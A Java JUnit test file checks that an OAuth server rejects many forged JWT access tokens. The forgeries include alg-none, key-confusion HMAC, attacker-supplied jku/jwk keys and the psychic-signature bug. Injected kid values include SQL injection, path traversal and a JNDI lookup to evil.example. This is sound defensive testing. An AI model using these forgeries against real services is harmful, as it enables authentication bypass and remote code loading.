package dev.gatewright.bearer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.DirectEncrypter;
import com.nimbusds.jose.crypto.ECDHEncrypter;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import dev.gatewright.ClientBuilder;
import dev.gatewright.Doors;
import dev.gatewright.Http;
import dev.gatewright.RawHttp;
import dev.gatewright.TestClient;
import dev.gatewright.TestServer;
import dev.gatewright.TestUsers;
import dev.gatewright.Tokens;
import dev.gatewright.key.SigningAlgorithm;
import dev.gatewright.user.User;
import java.io.IOException;
import java.math.BigInteger;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Forged access tokens: none opens the API, userinfo or introspection, and none breaks the server
 * (RFC 8725, RFC 9068 §4, RFC 7515, RFC 7519). Each is made from a true one that opens all three.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ForgedTokenTest {
  private static final BigInteger P256_ORDER = Curve.P_256.toECParameterSpec().getOrder();

  private TestServer server;
  private TestClient app;
  private Tokens tokens;
  private Tokens othersTokens;
  private Map<String, String> othersByAlgorithm;
  private Doors doors;
  private Forgery forgery;
  private ServerSocket attacker;

  @BeforeAll
  void start() throws IOException, JOSEException, GeneralSecurityException {
    server = TestServer.start();
    TestUsers users = new TestUsers(server);
    User user = users.user();
    app = ClientBuilder.nativeApp(server).register();
    tokens = app.flow().tokens(user);
    othersTokens = app.flow().tokens(users.user());
    othersByAlgorithm = new TreeMap<>();
    for (String alg : List.of("RS256", "PS256", "EdDSA")) {
      TestClient client = ClientBuilder.nativeApp(server).accessTokenAlg(alg).register();
      othersByAlgorithm.put(alg, client.flow().tokens(user).access());
    }
    doors = new Doors(server);
    forgery = new Forgery(server, tokens.access());
    attacker = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
  }

  @AfterAll
  void stop() throws IOException {
    attacker.close();
    server.close();
  }

  /** Without this, what follows would prove nothing. */
  @Test
  void trueTokenOpensAndSoDoesItsCopyByTheSameKey() {
    doors.assertOpenTo(tokens.access());
    doors.assertOpenTo(forgery.claims(claims -> {}));
    doors.assertOpenTo(forgery.signedHeader(forgery.header(header -> {})));
  }

  @Test
  void trueTokenOfEveryAlgorithmOpens() {
    othersByAlgorithm.values().forEach(doors::assertOpenTo);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({
    "unsigned",
    "keyedByWhatEverybodyKnows",
    "underAnotherAlgorithm",
    "signedByTheForger",
    "namingAnotherKey",
    "ofAnotherType",
    "withOtherClaims",
    "withABrokenSignature",
    "ofOtherAlgorithmsWithABrokenSignature",
    "spelledDifferently",
    "ofAnotherShape",
    "encrypted"
  })
  void forgedTokenOpensNothing(String what, String token) {
    doors.assertClosedTo(token);
  }

  /** RFC 8725 §3.10: no key is fetched from where a token says. */
  @Test
  void noKeyIsFetched() throws IOException, JOSEException {
    attacker.setSoTimeout(300);
    for (Arguments forged : signedByTheForger()) {
      doors.assertClosedTo((String) forged.get()[1]);
    }
    assertThrows(SocketTimeoutException.class, attacker::accept, "the server called back");
  }

  /** Longer than any header may be: refused before anyone looks at it, and not by a failure. */
  @Test
  void hugeTokensAreRefusedByTheirSize() {
    for (int length : new int[] {8_193, 15_000, 20_000, 200_000}) {
      String token = forgery.part(0) + "." + "A".repeat(length) + "." + forgery.part(2);
      RawHttp.Reply reply = RawHttp.get(server, "/api/user", "Authorization: Bearer " + token);
      assertTrue(
          List.of(400, 401, 413, 431).contains(reply.status()), length + ": " + reply.text());
    }
  }

  /** RFC 8725 §3.1: the header {@code alg} is not the forger's to choose. */
  List<Arguments> unsigned() {
    Forgeries forged = new Forgeries();
    for (String alg : List.of("none", "None", "NONE", "nOnE", "", " none", "none ", "null")) {
      String header = forgery.header(h -> h.put("alg", alg));
      forged.add(
          "alg \"" + alg + "\" without a signature",
          Forgery.base64(header) + "." + forgery.part(1) + ".");
      forged.add(
          "alg \"" + alg + "\" with the true signature",
          Forgery.base64(header) + "." + forgery.part(1) + "." + forgery.part(2));
    }
    forged.add(
        "alg none and nothing else",
        Forgery.base64("{\"alg\":\"none\"}") + "." + forgery.part(1) + ".");
    forged.add(
        "alg none and no second dot",
        Forgery.base64("{\"alg\":\"none\",\"typ\":\"at+jwt\"}") + "." + forgery.part(1));
    forged.add("no alg", forgery.signedHeader(forgery.header(h -> h.remove("alg"))));
    forged.add("alg null", forgery.signedHeader(forgery.header(h -> h.putNull("alg"))));
    forged.add("alg a number", forgery.signedHeader(forgery.header(h -> h.put("alg", 256))));
    forged.add(
        "alg a list", forgery.signedHeader(forgery.header(h -> h.putArray("alg").add("ES256"))));
    forged.add("alg twice, none last", forgery.signedHeader(twice("alg", "\"ES256\"", "\"none\"")));
    forged.add(
        "alg twice, none first", forgery.signedHeader(twice("alg", "\"none\"", "\"ES256\"")));
    return forged.list();
  }

  /** RFC 8725 §2.1: a public key is not the secret of an HMAC. */
  List<Arguments> keyedByWhatEverybodyKnows() throws JOSEException {
    Forgeries forged = new Forgeries();
    Map<String, byte[]> keys = new TreeMap<>();
    ECKey ec = forgery.server.publicKey(SigningAlgorithm.ES256).toECKey();
    RSAKey rsa = forgery.server.publicKey(SigningAlgorithm.RS256).toRSAKey();
    keys.put("EC key in DER", ec.toECPublicKey().getEncoded());
    keys.put("EC key in PEM", pem(ec.toECPublicKey().getEncoded()));
    keys.put("EC key as JWK", Forgery.utf8(ec.toJSONString()));
    keys.put("EC x", ec.getX().decode());
    keys.put("RSA key in DER", rsa.toRSAPublicKey().getEncoded());
    keys.put("RSA key in PEM", pem(rsa.toRSAPublicKey().getEncoded()));
    keys.put("RSA key as JWK", Forgery.utf8(rsa.toJSONString()));
    keys.put("RSA modulus", rsa.getModulus().decode());
    keys.put("the kid", Forgery.utf8(ec.getKeyID()));
    keys.put("secret", Forgery.utf8("secret"));
    keys.put("a zero", new byte[1]);
    keys.forEach((name, key) -> {
      forged.add("HS256 under " + name, forgery.hmac("HmacSHA256", key, algorithm("HS256")));
      forged.add(
          "HS256 under " + name + ", said to be the RSA key",
          forgery.hmac(
              "HmacSHA256",
              key,
              forgery.header(h ->
                  h.put("alg", "HS256").put("kid", forgery.server.kid(SigningAlgorithm.RS256)))));
    });
    byte[] der = ec.toECPublicKey().getEncoded();
    forged.add("HS384 under the EC key", forgery.hmac("HmacSHA384", der, algorithm("HS384")));
    forged.add("HS512 under the EC key", forgery.hmac("HmacSHA512", der, algorithm("HS512")));
    forged.add("HMAC called ES256", forgery.hmac("HmacSHA256", der, algorithm("ES256")));
    return forged.list();
  }

  /** RFC 8725 §3.1: a key is for one algorithm. */
  List<Arguments> underAnotherAlgorithm() {
    Forgeries forged = new Forgeries();
    byte[] claims = Forgery.utf8(forgery.claims().toString());
    for (SigningAlgorithm key : SigningAlgorithm.values()) {
      for (String alg :
          List.of(
              "ES256", "RS256", "PS256", "EdDSA", "ES384", "ES512", "ES256K", "RS384", "RS512",
              "PS512", "Ed25519")) {
        if (!alg.equals(key.alg())) {
          String header =
              forgery.header(h -> h.put("alg", alg).put("kid", forgery.server.kid(key)));
          forged.add(key.alg() + " called " + alg, forgery.server.sign(key, header, claims));
        }
      }
      String lower =
          forgery.header(h ->
              h.put("alg", key.alg().toLowerCase(Locale.ROOT)).put("kid", forgery.server.kid(key)));
      forged.add(key.alg() + " in small letters", forgery.server.sign(key, lower, claims));
    }
    String rsaAsEc = forgery.header(h -> h.put("kid", forgery.server.kid(SigningAlgorithm.RS256)));
    forged.add("ES256 by the RSA key's name", forgery.signedHeader(rsaAsEc));
    return forged.list();
  }

  /**
   * RFC 8725 §3.10, RFC 7515 §4.1: a key that a token brings along, or points to, is the forger's.
   */
  List<Arguments> signedByTheForger() throws JOSEException {
    Forgeries forged = new Forgeries();
    String url = "http://127.0.0.1:" + attacker.getLocalPort() + "/keys";
    String x5c = Base64.getEncoder().encodeToString(forgery.ec.toECPublicKey().getEncoded());
    Map<String, Consumer<ObjectNode>> headers = new TreeMap<>();
    headers.put("the true kid", h -> {});
    headers.put("no kid", h -> h.remove("kid"));
    headers.put("the forger's kid", h -> h.put("kid", "forger-ec"));
    headers.put(
        "jwk and no kid",
        h ->
            ((ObjectNode) h.without("kid"))
                .set("jwk", json(forgery.ec.toPublicJWK().toJSONString())));
    headers.put("jwk", h -> h.set("jwk", json(forgery.ec.toPublicJWK().toJSONString())));
    headers.put("a private jwk", h -> h.set("jwk", json(forgery.ec.toJSONString())));
    headers.put(
        "jwk with the true kid in it", h -> h.set("jwk", json(named(h.get("kid").asText()))));
    headers.put("jku", h -> h.put("jku", url));
    headers.put("jku and no kid", h -> ((ObjectNode) h.without("kid")).put("jku", url));
    headers.put(
        "jku at the issuer's user info",
        h -> h.put("jku", server.issuer() + "@127.0.0.1:" + attacker.getLocalPort()));
    headers.put("x5u", h -> h.put("x5u", url));
    headers.put("x5c", h -> h.putArray("x5c").add(x5c));
    headers.put("x5c and no kid", h -> ((ObjectNode) h.without("kid")).putArray("x5c").add(x5c));
    headers.put("x5t", h -> h.put("x5t", "AAAAAAAAAAAAAAAAAAAAAAAAAAA"));
    headers.put("x5t#S256", h -> h.put("x5t#S256", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"));
    headers.put("iss in the header", h -> h.put("iss", url));
    headers.forEach((name, change) ->
        forged.add(
            "signed by the forger, with " + name, forgery.signedByForger(forgery.header(change))));
    String rsa =
        forgery.header(
            h -> h.put("alg", "RS256").put("kid", forgery.server.kid(SigningAlgorithm.RS256)));
    forged.add(
        "signed by the forger's RSA key",
        forgery.signedBy("SHA256withRSA", forgery.rsa.toRSAPrivateKey(), rsa));
    String ed =
        forgery.header(
            h -> h.put("alg", "EdDSA").put("kid", forgery.server.kid(SigningAlgorithm.ED_DSA)));
    forged.add(
        "signed by the forger's Ed25519 key",
        forgery.signedBy("Ed25519", forgery.ed.getPrivate(), ed));
    ECKey p384 = new ECKeyGenerator(Curve.P_384).generate();
    forged.add(
        "signed on the curve P-384 under the name ES256",
        forgery.signedBy(
            "SHA256withECDSAinP1363Format", p384.toECPrivateKey(), forgery.header(h -> {})));
    forged.add(
        "signed on the curve P-384",
        forgery.signedBy(
            "SHA384withECDSAinP1363Format", p384.toECPrivateKey(), algorithm("ES384")));
    return forged.list();
  }

  /** RFC 8725 §3.10: {@code kid} is looked up, and never a path, a query or an address. */
  List<Arguments> namingAnotherKey() {
    Forgeries forged = new Forgeries();
    for (String kid :
        List.of(
            "",
            "unknown",
            "../../../../dev/null",
            "/dev/null",
            "' or '1'='1",
            "x' union select 'AAAA' --",
            "http://127.0.0.1:" + attacker.getLocalPort(),
            "\u0000",
            "\r\nX: y",
            "${jndi:ldap://evil.example/x}",
            "k".repeat(3000))) {
      String header = forgery.header(h -> h.put("kid", kid));
      String shown = kid.length() > 40 ? "long" : kid.replaceAll("\\p{Cntrl}", "?");
      forged.add("kid \"" + shown + "\"", forgery.signedHeader(header));
      forged.add("kid \"" + shown + "\" by the forger", forgery.signedByForger(header));
      forged.add(
          "kid \"" + shown + "\" and HS256 under a zero",
          forgery.hmac(
              "HmacSHA256",
              new byte[1],
              forgery.header(h -> h.put("kid", kid).put("alg", "HS256"))));
    }
    forged.add("no kid", forgery.signedHeader(forgery.header(h -> h.remove("kid"))));
    forged.add("kid null", forgery.signedHeader(forgery.header(h -> h.putNull("kid"))));
    forged.add("kid a number", forgery.signedHeader(forgery.header(h -> h.put("kid", 1))));
    forged.add(
        "kid a list",
        forgery.signedHeader(forgery.header(h -> h.putArray("kid").add(h.get("kid").asText()))));
    forged.add(
        "kid twice",
        forgery.signedHeader(
            twice("kid", "\"unknown\"", "\"" + forgery.header().get("kid").asText() + "\"")));
    return forged.list();
  }

  /**
   * RFC 9068 §4, RFC 8725 §3.11: what is not said to be an access token is none, even when it is
   * truly signed.
   */
  List<Arguments> ofAnotherType() {
    Forgeries forged = new Forgeries();
    forged.add("the ID token", tokens.id());
    for (String typ :
        List.of(
            "JWT",
            "jwt",
            "at",
            "jwt+at",
            "dpop+jwt",
            "logout+jwt",
            "secevent+jwt",
            "JOSE",
            "",
            "at+jwt+x",
            " at+jwt")) {
      forged.add(
          "typ \"" + typ + "\"", forgery.signedHeader(forgery.header(h -> h.put("typ", typ))));
    }
    forged.add("no typ", forgery.signedHeader(forgery.header(h -> h.remove("typ"))));
    forged.add("typ null", forgery.signedHeader(forgery.header(h -> h.putNull("typ"))));
    forged.add(
        "typ a list", forgery.signedHeader(forgery.header(h -> h.putArray("typ").add("at+jwt"))));
    forged.add("typ twice", forgery.signedHeader(twice("typ", "\"JWT\"", "\"at+jwt\"")));
    for (String crit :
        List.of("[\"exp\"]", "[\"x\"]", "[\"b64\"]", "[]", "\"exp\"", "[1]", "[\"alg\"]")) {
      forged.add(
          "crit " + crit, forgery.signedHeader(forgery.header(h -> h.set("crit", json(crit)))));
    }
    forged.add(
        "an unencoded payload (RFC 7797)",
        forgery.signedHeader(
            forgery.header(h -> ((ObjectNode) h.put("b64", false)).putArray("crit").add("b64"))));
    forged.add("b64 false alone", forgery.signedHeader(forgery.header(h -> h.put("b64", false))));
    return forged.list();
  }

  /** RFC 9068 §2.2, §4, RFC 7519 §4.1: truly signed, and still not what it says. */
  List<Arguments> withOtherClaims() {
    Forgeries forged = new Forgeries();
    long now = System.currentTimeMillis() / 1000;
    String issuer = server.issuer();
    Map<String, Consumer<ObjectNode>> claims = new TreeMap<>();
    claims.put("exp past", c -> c.put("exp", now - 10));
    claims.put("exp long past", c -> c.put("exp", 0));
    claims.put("exp negative", c -> c.put("exp", -1));
    claims.put("exp of milliseconds past", c -> c.put("exp", now - 3600.5));
    claims.put("exp text", c -> c.put("exp", String.valueOf(now + 3600)));
    claims.put("exp null", c -> c.putNull("exp"));
    claims.put("exp missing", c -> c.remove("exp"));
    claims.put("exp a list", c -> c.putArray("exp").add(now + 3600));
    claims.put("exp true", c -> c.put("exp", true));
    claims.put("nbf to come", c -> c.put("nbf", now + 3600));
    claims.put("nbf text", c -> c.put("nbf", "tomorrow"));
    claims.put("iat missing", c -> c.remove("iat"));
    claims.put("iat text", c -> c.put("iat", "yesterday"));
    claims.put("iss another", c -> c.put("iss", "https://evil.example"));
    claims.put("iss with a slash", c -> c.put("iss", issuer + "/"));
    claims.put("iss in capitals", c -> c.put("iss", issuer.toUpperCase(Locale.ROOT)));
    claims.put("iss with a suffix", c -> c.put("iss", issuer + ".evil.example"));
    claims.put("iss missing", c -> c.remove("iss"));
    claims.put("iss null", c -> c.putNull("iss"));
    claims.put("iss a list", c -> c.putArray("iss").add(issuer));
    claims.put("aud another", c -> c.put("aud", "https://api.example"));
    claims.put("aud the client", c -> c.put("aud", app.clientId()));
    claims.put("aud with a slash", c -> c.put("aud", issuer + "/"));
    claims.put("aud a prefix", c -> c.put("aud", issuer.substring(0, issuer.length() - 1)));
    claims.put("aud missing", c -> c.remove("aud"));
    claims.put("aud null", c -> c.putNull("aud"));
    claims.put("aud empty", c -> c.putArray("aud"));
    claims.put("aud a number", c -> c.put("aud", 1));
    claims.put("aud an object", c -> c.putObject("aud").put("x", issuer));
    claims.put("aud a list of lists", c -> c.putArray("aud").addArray().add(issuer));
    claims.put(
        "sub another user",
        c -> c.put("sub", Tokens.claims(othersTokens.access()).get("sub").asText()));
    claims.put("sub unknown", c -> c.put("sub", UUID.randomUUID().toString()));
    claims.put("sub no id", c -> c.put("sub", "admin"));
    claims.put("sub missing", c -> c.remove("sub"));
    claims.put("sub null", c -> c.putNull("sub"));
    claims.put("sub empty", c -> c.put("sub", ""));
    claims.put("sub a number", c -> c.put("sub", 1));
    claims.put("sub a list", c -> c.putArray("sub").add(c.path("sub").asText()));
    claims.put("client_id missing", c -> c.remove("client_id"));
    claims.put("client_id unknown", c -> c.put("client_id", "no-such-client"));
    claims.put("client_id a number", c -> c.put("client_id", 1));
    claims.put("client_id strange", c -> c.put("client_id", "' or '1'='1"));
    claims.put("jti missing", c -> c.remove("jti"));
    claims.put("jti no id", c -> c.put("jti", "x"));
    claims.put("jti a number", c -> c.put("jti", 1));
    claims.put("grant_id missing", c -> c.remove("grant_id"));
    claims.put("grant_id unknown", c -> c.put("grant_id", UUID.randomUUID().toString()));
    claims.put(
        "grant_id another user's",
        c -> c.set("grant_id", Tokens.claims(othersTokens.access()).get("grant_id")));
    claims.put("grant_id no id", c -> c.put("grant_id", "x"));
    claims.put("grant_id a number", c -> c.put("grant_id", 1));
    claims.put("scope a list", c -> c.putArray("scope").add("openid").add("user:read"));
    claims.put("scope a number", c -> c.put("scope", 1));
    claims.put("scope with a quote", c -> c.put("scope", "openid user:read \""));
    claims.put(
        "scope of an administrator",
        c -> c.put("scope", "openid user:read users:read clients:write"));
    claims.forEach((name, change) -> forged.add(name, forgery.claims(change)));
    String own = forgery.claims().toString();
    String other = Tokens.claims(othersTokens.access()).get("sub").toString();
    forged.add("sub twice", forgery.payload("{\"sub\":" + other + "," + own.substring(1)));
    forged.add(
        "sub twice, the other last",
        forgery.payload(own.substring(0, own.length() - 1) + ",\"sub\":" + other + "}"));
    forged.add("exp twice", forgery.payload("{\"exp\":1," + own.substring(1)));
    return forged.list();
  }

  /** RFC 7515 §5.2; CVE-2022-21449, the psychic signature. */
  List<Arguments> withABrokenSignature() {
    Forgeries forged = new Forgeries();
    byte[] signature = forgery.signature();
    int half = signature.length / 2;
    forged.add("no signature", forgery.withSignature(new byte[0]));
    forged.add("r = s = 0", forgery.withSignature(new byte[signature.length]));
    forged.add(
        "r = 0",
        forgery.withSignature(
            concat(new byte[half], Arrays.copyOfRange(signature, half, half * 2))));
    forged.add(
        "s = 0", forgery.withSignature(concat(Arrays.copyOf(signature, half), new byte[half])));
    forged.add("r = s = n", forgery.withSignature(concat(octets(P256_ORDER), octets(P256_ORDER))));
    forged.add(
        "r = s = 1", forgery.withSignature(concat(octets(BigInteger.ONE), octets(BigInteger.ONE))));
    forged.add(
        "r = s = n - 1",
        forgery.withSignature(
            concat(
                octets(P256_ORDER.subtract(BigInteger.ONE)),
                octets(P256_ORDER.subtract(BigInteger.ONE)))));
    forged.add("all ones", forgery.withSignature(filled(signature.length)));
    forged.add("one zero", forgery.withSignature(new byte[1]));
    forged.add("DER", forgery.withSignature(der(signature)));
    forged.add("DER of zeros", forgery.withSignature(new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0}));
    forged.add(
        "r and s exchanged",
        forgery.withSignature(
            concat(Arrays.copyOfRange(signature, half, half * 2), Arrays.copyOf(signature, half))));
    forged.add("twice", forgery.withSignature(concat(signature, signature)));
    forged.add("a zero before", forgery.withSignature(concat(new byte[1], signature)));
    forged.add("a zero after", forgery.withSignature(concat(signature, new byte[1])));
    for (int length : new int[] {1, half, signature.length - 1}) {
      forged.add("cut to " + length, forgery.withSignature(Arrays.copyOf(signature, length)));
    }
    for (int octet : new int[] {0, 1, half - 1, half, half + 1, signature.length - 1}) {
      byte[] flipped = signature.clone();
      flipped[octet] ^= 1;
      forged.add("a bit of octet " + octet + " flipped", forgery.withSignature(flipped));
    }
    forged.add(
        "the signature of another token",
        forgery.part(0) + "." + forgery.part(1) + "." + othersTokens.access().split("\\.")[2]);
    forged.add(
        "the claims of another token",
        forgery.part(0) + "." + othersTokens.access().split("\\.")[1] + "." + forgery.part(2));
    forged.add(
        "one claim changed after signing",
        forgery.part(0)
            + "."
            + Forgery.base64(
                forgery.claims().put("scope", "openid user:read user:write").toString())
            + "."
            + forgery.part(2));
    forged.add(
        "the header changed after signing",
        Forgery.base64(forgery.header(h -> h.put("x", 1)))
            + "."
            + forgery.part(1)
            + "."
            + forgery.part(2));
    return forged.list();
  }

  /** RFC 7518 §3.3, §3.5, RFC 8037 §3.1. */
  List<Arguments> ofOtherAlgorithmsWithABrokenSignature() {
    Forgeries forged = new Forgeries();
    othersByAlgorithm.forEach((alg, token) -> {
      String signed = token.substring(0, token.lastIndexOf('.') + 1);
      byte[] signature = Base64.getUrlDecoder().decode(token.substring(signed.length()));
      byte[] first = signature.clone();
      first[0] ^= 1;
      byte[] last = signature.clone();
      last[last.length - 1] ^= 1;
      forged.add(alg + " without a signature", signed);
      forged.add(alg + " of zeros", signed + Forgery.base64(new byte[signature.length]));
      forged.add(alg + " of ones", signed + Forgery.base64(filled(signature.length)));
      forged.add(alg + " with the first bit flipped", signed + Forgery.base64(first));
      forged.add(alg + " with the last bit flipped", signed + Forgery.base64(last));
      forged.add(
          alg + " cut", signed + Forgery.base64(Arrays.copyOf(signature, signature.length - 1)));
      forged.add(
          alg + " with a zero more", signed + Forgery.base64(concat(signature, new byte[1])));
      forged.add(alg + " with the number one", signed + Forgery.base64(new byte[] {1}));
      forged.add(alg + " with the signature of ES256", signed + forgery.part(2));
    });
    return forged.list();
  }

  /**
   * RFC 7515 §2, RFC 4648 §3.5: a token has one spelling, or it could be revoked in one and used in
   * another.
   */
  List<Arguments> spelledDifferently() {
    Forgeries forged = new Forgeries();
    String token = tokens.access();
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    int last = alphabet.indexOf(token.charAt(token.length() - 1));
    for (int unused = 1; unused < 16; unused *= 2) {
      forged.add(
          "an unused bit of the signature set: " + unused,
          token.substring(0, token.length() - 1) + alphabet.charAt(last ^ unused));
    }
    forged.add("padded with =", token + "=");
    forged.add("padded with ==", token + "==");
    forged.add("header padded", forgery.part(0) + "=." + forgery.part(1) + "." + forgery.part(2));
    forged.add("a dot at the end", token + ".");
    forged.add("a dot at the start", "." + token);
    forged.add("a character at the end", token + "A");
    forged.add("a foreign character at the end", token + "!");
    forged.add("a foreign character within", token.substring(0, 20) + "!" + token.substring(20));
    forged.add("a line break within", token.substring(0, 20) + "%0A" + token.substring(20));
    forged.add("in small letters", token.toLowerCase(Locale.ROOT));
    forged.add("twice", token + "." + token);
    forged.add("encoded once more", Forgery.base64(token));
    return forged.list();
  }

  /** RFC 7515 §7, RFC 7519 §7.2: what does not have the shape of a signed JWT. */
  List<Arguments> ofAnotherShape() {
    Forgeries forged = new Forgeries();
    forged.add("one part", forgery.part(0));
    forged.add("two parts", forgery.part(0) + "." + forgery.part(1));
    forged.add("four parts", tokens.access() + "." + forgery.part(2));
    forged.add("a detached payload", forgery.part(0) + ".." + forgery.part(2));
    forged.add("no header", "." + forgery.part(1) + "." + forgery.part(2));
    forged.add("a word", "token");
    forged.add("two dots", "..");
    forged.add("the refresh token's like", "gwr_" + "A".repeat(43));
    forged.add("the kid", forgery.server.kid(SigningAlgorithm.ES256));
    for (String header :
        List.of(
            "", "{", "[]", "\"x\"", "null", "{}", "garbage", "{\"alg\":{}}", "[".repeat(3000))) {
      String shown = header.length() > 20 ? "nested deep" : header;
      forged.add("header " + shown, forgery.signedHeader(header));
    }
    for (String payload :
        List.of(
            "",
            "{",
            "[]",
            "\"x\"",
            "null",
            "{}",
            "1",
            "garbage",
            "\uFEFF{}",
            "{\"a\":" + "[".repeat(3000),
            "{}{}")) {
      String shown = payload.length() > 20 ? "nested deep" : payload;
      forged.add("payload " + shown, forgery.payload(payload));
    }
    forged.add(
        "payload that is not UTF-8",
        forgery.server.sign(
            SigningAlgorithm.ES256,
            forgery.header().toString(),
            new byte[] {(byte) 0xFF, (byte) 0xFE}));
    forged.add(
        "a JWT in a JWT",
        forgery.server.sign(
            SigningAlgorithm.ES256,
            forgery.header(h -> h.put("cty", "JWT")),
            Forgery.utf8(tokens.access())));
    forged.add(
        "a payload said to be compressed",
        forgery.server.sign(
            SigningAlgorithm.ES256, forgery.header(h -> h.put("zip", "DEF")), new byte[] {3, 0}));
    forged.add(
        "the JSON serialization, encoded",
        Forgery.base64(
            "{\"payload\":\"%s\",\"protected\":\"%s\",\"signature\":\"%s\"}"
                .formatted(forgery.part(1), forgery.part(0), forgery.part(2))));
    return forged.list();
  }

  /** RFC 7516: who can encrypt to a public key has not signed anything. */
  List<Arguments> encrypted() throws JOSEException {
    Forgeries forged = new Forgeries();
    RSAKey rsa = forgery.server.publicKey(SigningAlgorithm.RS256).toRSAKey();
    ECKey ec = forgery.server.publicKey(SigningAlgorithm.ES256).toECKey();
    for (String content : List.of(tokens.access(), forgery.claims().toString())) {
      String what = content.startsWith("{") ? "claims" : "the true token";
      JWEObject toRsa =
          new JWEObject(jwe(JWEAlgorithm.RSA_OAEP_256, rsa.getKeyID()), new Payload(content));
      toRsa.encrypt(new RSAEncrypter(rsa.toRSAPublicKey()));
      forged.add(what + " encrypted to the RSA key", toRsa.serialize());
      JWEObject toEc =
          new JWEObject(jwe(JWEAlgorithm.ECDH_ES, ec.getKeyID()), new Payload(content));
      toEc.encrypt(new ECDHEncrypter(ec.toECPublicKey()));
      forged.add(what + " encrypted to the EC key", toEc.serialize());
      JWEObject direct = new JWEObject(jwe(JWEAlgorithm.DIR, ec.getKeyID()), new Payload(content));
      direct.encrypt(new DirectEncrypter(new byte[32]));
      forged.add(what + " encrypted under zeros", direct.serialize());
    }
    forged.add("five parts of nothing", "....");
    return forged.list();
  }

  /** Enough of them that none of the ways above is left out by accident. */
  @Test
  void forgeriesAreMany() throws JOSEException {
    int all =
        unsigned().size()
            + keyedByWhatEverybodyKnows().size()
            + underAnotherAlgorithm().size()
            + signedByTheForger().size()
            + namingAnotherKey().size()
            + ofAnotherType().size()
            + withOtherClaims().size()
            + withABrokenSignature().size()
            + ofOtherAlgorithmsWithABrokenSignature().size()
            + spelledDifferently().size()
            + ofAnotherShape().size()
            + encrypted().size();

    assertTrue(all >= 150, all + " forgeries");
    assertEquals(401, new Http(server).get("/api/user").statusCode());
  }

  private JWEHeader jwe(JWEAlgorithm algorithm, String kid) {
    return new JWEHeader.Builder(algorithm, EncryptionMethod.A256GCM)
        .keyID(kid)
        .contentType("JWT")
        .build();
  }

  private String algorithm(String alg) {
    return forgery.header(h -> h.put("alg", alg));
  }

  /** The true header with a member twice. */
  private String twice(String member, String first, String second) {
    String rest = forgery.header(h -> h.remove(member));
    return "{\"%1$s\":%2$s,%4$s,\"%1$s\":%3$s}"
        .formatted(member, first, second, rest.substring(1, rest.length() - 1));
  }

  private String named(String kid) {
    return new ECKey.Builder(forgery.ec).keyID(kid).build().toPublicJWK().toJSONString();
  }

  private static com.fasterxml.jackson.databind.JsonNode json(String text) {
    try {
      return Forgery.JSON.readTree(text);
    } catch (IOException e) {
      throw new IllegalArgumentException(text, e);
    }
  }

  private static byte[] pem(byte[] der) {
    return Forgery.utf8(
        "-----BEGIN PUBLIC KEY-----\n"
            + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der)
            + "\n-----END PUBLIC KEY-----\n");
  }

  private static byte[] octets(BigInteger number) {
    return Base64URL.encode(number).decode().length == 32
        ? Base64URL.encode(number).decode()
        : concat(
            new byte[32 - Base64URL.encode(number).decode().length],
            Base64URL.encode(number).decode());
  }

  private static byte[] der(byte[] signature) {
    byte[] r = new BigInteger(1, Arrays.copyOf(signature, 32)).toByteArray();
    byte[] s = new BigInteger(1, Arrays.copyOfRange(signature, 32, 64)).toByteArray();
    byte[] both =
        concat(
            concat(new byte[] {2, (byte) r.length}, r), concat(new byte[] {2, (byte) s.length}, s));
    return concat(new byte[] {0x30, (byte) both.length}, both);
  }

  private static byte[] filled(int length) {
    byte[] ones = new byte[length];
    Arrays.fill(ones, (byte) 0xFF);
    return ones;
  }

  private static byte[] concat(byte[] first, byte[] second) {
    byte[] both = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }

  /** What is forged, by a name each. */
  private static final class Forgeries {
    private final List<Arguments> all = new ArrayList<>();

    void add(String what, String token) {
      all.add(arguments(what, token));
    }

    List<Arguments> list() {
      return all;
    }
  }
}
